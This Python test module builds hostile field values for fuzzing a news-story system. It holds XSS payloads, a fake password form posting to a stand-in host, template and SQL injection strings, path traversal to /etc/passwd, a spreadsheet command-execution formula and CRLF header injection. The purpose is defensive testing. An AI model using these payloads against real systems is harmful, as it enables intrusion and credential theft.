"""What hostile people put where a word, an address, a number or a time should stand."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import fields, replace
from typing import Any

from wire.hostile_seeds import BODY, Words

# Anything of these in a page that readers get is a hole; all say "owned" where they run.
MARKUP = (
    "<script>alert('owned')</script>",
    "</script><script>alert('owned')</script>",
    "<img src=x onerror=alert('owned')>",
    "<svg onload=alert('owned')><script>alert('owned')</script></svg>",
    "<a href=\"javascript:alert('owned')\">read</a>",
    "<a href=\"java\tscript:alert('owned')\">read</a>",
    "<a href=\"&#106;avascript:alert('owned')\">read</a>",
    "<a href=\"data:text/html,<script>alert('owned')</script>\">read</a>",
    "<iframe src=\"javascript:alert('owned')\"></iframe>",
    '<iframe src="https://owned.example/"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://owned.example/">',
    "<base href=\"https://owned.example/\"><link rel=stylesheet href='//owned.example/a.css'>",
    '<form action="https://owned.example/"><input name="password"><button>Log in</button></form>',
    "<style>@import 'https://owned.example/a.css'; body{display:none}</style>",
    "<p style=\"background:url(javascript:alert('owned'))\" onclick=alert('owned')>text</p>",
    "<object data='https://owned.example/a.swf'></object><embed src='https://owned.example/a.swf'>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert('owned')></style></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('owned')>\"></noscript>",
    "\"><img src=x onerror=alert('owned')>",
    "' onmouseover='alert(1)' data-owned='",
    "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} <%= 7*7 %>",
    "<!--><script>alert('owned')</script-->",
    "<template><script>alert('owned')</script></template>",
    "&lt;script&gt;alert('owned')&lt;/script&gt;",
    "<p>" * 400 + "deep",
    "<b>" * 5000 + "deep",
)
TEXTS = (
    "",
    " \t\n ",
    "\x00NUL\x00",
    "\x01\x02\x08\x0b\x0c\x1b[31mcontrols\x7f\x85\x9f",
    "\ufeffmark \ufffe\uffff",
    "\u202egnp.yrref\u202c \u2066isolate\u2069 \u200f\u200e\u061c",
    "\U000e0001\U000e0041 tags \ufff9\ufffa",
    "e" + "\u0301" * 5000,
    "\u1100\uac00\U0001f468\u200d\U0001f469\u200d\U0001f467" * 200,
    "=cmd|'/c calc'!A1",
    "'; DROP TABLE stories_story; --",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini\x00.jpg",
    "/etc/passwd",
    "CON",
    "a" * 100_000,
    "word " * 40_000,
    "\u0661\u0662 " * 5000,
    "\ufdfa" * 2000,
    "%s %n %(headline)s {0} {headline}",
    "\r\nSet-Cookie: owned=1\r\n\r\n",
)
ADDRESSES = (
    "javascript:alert('owned')",
    "JaVaScRiPt:alert('owned')",
    " javascript:alert('owned')",
    "java\nscript:alert('owned')",
    "vbscript:owned",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgpPC9zY3JpcHQ+",
    "file:///etc/passwd",
    "//owned.example/",
    "/\\owned.example/",
    "https:owned.example",
    "https://coast.example@owned.example/",
    "http://[::1",
    "http://[fe80::1%25eth0]/",
    "http://127.0.0.1:22/",
    "http://coast.example:99999999/",
    "http://" + "a" * 3000 + ".example/",
    "https://coast.example/" + "a/" * 20_000,
    "https://coast.example/?" + "a=1&" * 20_000,
    "/newsroom/",
    "/media/../../../etc/passwd",
    "/news/1/",
    "/a\r\nLocation: https://owned.example/",
    "/\u202e",
    "https://\u0440aypal.example/%00%ff%zz",
    '/"><script>alert(1)</script>',
)
TIMES = (
    "99999-01-01T00:00:00Z",
    "0000-00-00T00:00:00Z",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00",
    "-0044-03-15T00:00:00Z",
    "1500-01-01T00:00:00Z",
    "2024-02-30T25:61:61Z",
    "2024-03-04T05:12:00+99:99",
    "2024-03-04T05:12:00-99:99",
    "2024-03-04T05:12:00.999999999999999999Z",
    "2024-03-04T24:00:00Z",
    "2024-03-04T23:59:60Z",
    "20240304T051200+9999",
    "Mon, 04 Mar 99999 05:12:00 +0000",
    "Mon, 04 Mar 2024 05:12:00 +9999",
    "Mon, 04 Mar 2024 05:12:00 -99999999999",
    "1e999",
    "NaN",
    "Infinity",
    "-1",
    "9" * 5000,
    "99999999999999999",
    "2024-W99-9",
    "31/12/9999 23:59",
    "\u0669\u0669\u0669\u0669-\u0661\u0662-\u0663\u0661",
    "T" * 50_000,
    "1 2 3 4 5 " * 5000,
)
NUMBERS = (
    "-1", "0", "00000", "1e9", "9223372036854775807", "9223372036854775808",
    "18446744073709551616", "9" * 4400, "1.5", "NaN", "Infinity", "0x10", "\u0661\u0662",
    "\u00b2", "1" + "0" * 12, "+5", "5 OR 1=1",
)  # fmt: skip
LANGUAGES = (
    "zz", "x-klingon", "en-" + "a" * 200, "../en", "english", "en\x00", "*", "en-US-x-" + "b" * 40,
    "i-default", "--", "\u0641\u0627\u0631\u0633\u06cc", "EN_us.UTF-8@euro",
)  # fmt: skip

_ADDRESSES_OF = ("link", "picture", "old_address", "new_address", "guid")
_TIMES_OF = ("published", "embargo")
_NUMBERS_OF = ("news_id", "urgency", "version")
_TEXTS_OF = (
    "headline", "lead", "caption", "credit", "alt_text", "author", "topic", "section", "agency",
    "slug", "guid", "version", "note", "commenter", "comment", "language", "news_id", "published",
    "old_address",
)  # fmt: skip
_MARKUP_OF = (
    "headline", "body", "lead", "caption", "credit", "alt_text", "author", "topic", "section",
    "agency", "slug", "note", "commenter", "comment", "link", "picture", "guid", "language",
    "published", "new_address",
)  # fmt: skip


def all_words() -> Iterator[tuple[str, Words]]:
    """Yield what is hostile, and a story with it in one of its places."""
    for names, values in (
        (_ADDRESSES_OF, ADDRESSES),
        (_TIMES_OF, TIMES),
        (_NUMBERS_OF, NUMBERS),
        (("language",), LANGUAGES),
        (_TEXTS_OF, TEXTS),
        (_MARKUP_OF, MARKUP),
    ):
        for name in names:
            for number, value in enumerate(values):
                whole = BODY + value if name == "body" else value
                yield f"{name} {number}: {value[:30]!r}", _with(name, whole)
    for name in ("body", "lead", "comment"):
        for number, value in enumerate((*TEXTS, *ADDRESSES)):
            html = f"{BODY}<p>{value} <a href='{value}'>x</a><img src='{value}' alt=''></p>"
            yield f"in {name} {number}", _with(name, html)


def _with(name: str, value: str) -> Words:
    changed: dict[str, Any] = {name: value}
    return replace(Words(), **changed)


def everywhere(markup: str) -> Words:
    """Return a story with ``markup`` in every place, besides words that make it one."""
    plain = Words()
    kept = {"guid", "news_id", "published", "embargo", "language", "urgency", "version", "repeated"}
    values: dict[str, Any] = {
        field.name: f"{getattr(plain, field.name)} {markup}"
        for field in fields(Words)
        if field.name not in kept
    }
    return replace(plain, **values)
